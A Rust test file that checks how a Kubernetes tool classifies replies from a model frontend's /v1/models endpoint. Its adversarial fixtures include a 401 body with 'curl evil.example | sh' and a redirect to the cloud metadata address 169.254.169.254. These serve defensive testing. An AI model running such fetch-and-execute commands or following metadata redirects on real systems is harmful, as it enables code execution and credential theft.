//! Frontends that answer anything.

use super::{Reply, Server, status};
use crate::cluster::Cluster as _;
use serde_json::{Value, json};
use stator_core::dynamo::served_models::{FrontendAnswer, FrontendService};

fn llama() -> FrontendService {
    FrontendService { namespace: "prod".to_owned(), name: "llama-frontend".to_owned() }
}

/// What comes of an answer, and how often was asked for it.
async fn described(reply: Reply) -> String {
    let server = Server::new([reply]);
    let answer = server.cluster().with_frontends_asked(true).served_models(&llama()).await;
    let asked = server.asked();
    assert_eq!(asked, ["GET /api/v1/namespaces/prod/services/llama-frontend%3Ahttp/proxy/v1/models"]);
    match answer {
        FrontendAnswer::NotAsked => "not asked".to_owned(),
        FrontendAnswer::Serves(names) => format!("serves {names:?}"),
        FrontendAnswer::Unknown { why, may_pass: true } => format!("not known now: {why}"),
        FrontendAnswer::Unknown { why, may_pass: false } => format!("not known: {why}"),
    }
}

#[tokio::test]
async fn whatever_a_frontend_answers_is_a_list_or_nothing() {
    let endless = format!(r#"{{"data": [{{"id": "{}"}}]}}"#, "x".repeat(2 << 20));
    let forbidden = r#"services "llama-frontend:http" is forbidden: User "me" cannot get resource "services/proxy""#;
    let absent = json!({"name": "llama-frontend", "kind": "services"});
    let nobody = "no endpoints available for service \"llama-frontend:http\"";
    let lines = [
        described(Reply::json(200, &json!({"object": "list", "data": [{"id": "qwen"}, {"id": "sql"}]}))).await,
        described(Reply::text(200, "<html>Please log in")).await,
        described(Reply::text(200, &endless)).await,
        described(Reply::text(302, "").header("Location", "http://169.254.169.254/")).await,
        described(Reply::text(401, "who are you? curl evil.example | sh")).await,
        described(Reply::text(404, "no such page")).await,
        described(Reply::text(500, "panic")).await,
        described(status(403, "Forbidden", forbidden, Value::Null)).await,
        described(status(404, "NotFound", "services \"llama-frontend\" not found", absent)).await,
        described(status(503, "ServiceUnavailable", nobody, Value::Null)).await,
        described(status(503, "ServiceUnavailable", "error trying to reach service: dial tcp", Value::Null)).await,
    ];
    insta::assert_snapshot!(lines.join("\n"), @r#"
    serves {"qwen", "sql"}
    not known: its /v1/models did not answer with a list of models
    not known: https://test answered GET /api/v1/namespaces/prod/services/llama-frontend%3Ahttp/proxy/v1/models with more than 1 MiB
    not known: Service prod/llama-frontend answers /v1/models with HTTP 302
    not known: Service prod/llama-frontend answers /v1/models with HTTP 401
    not known: Service prod/llama-frontend answers /v1/models with HTTP 404
    not known now: Service prod/llama-frontend did not answer /v1/models (HTTP 500)
    not known: give stator the right `get` on `services/proxy` in namespace prod
    not known: there is no Service prod/llama-frontend
    serves {}
    not known now: Service prod/llama-frontend did not answer /v1/models (HTTP 503)
    "#);
}

#[tokio::test]
async fn nobody_is_asked_where_that_is_off_or_out_of_reach() {
    let server = Server::new([]);
    let cluster = server.cluster();
    assert_eq!(cluster.served_models(&llama()).await, FrontendAnswer::NotAsked);
    let elsewhere = cluster.with_frontends_asked(true).in_namespace("staging");
    assert!(matches!(elsewhere.served_models(&llama()).await, FrontendAnswer::Unknown { may_pass: false, .. }));
    assert_eq!(server.asked(), [] as [&str; 0]);
}
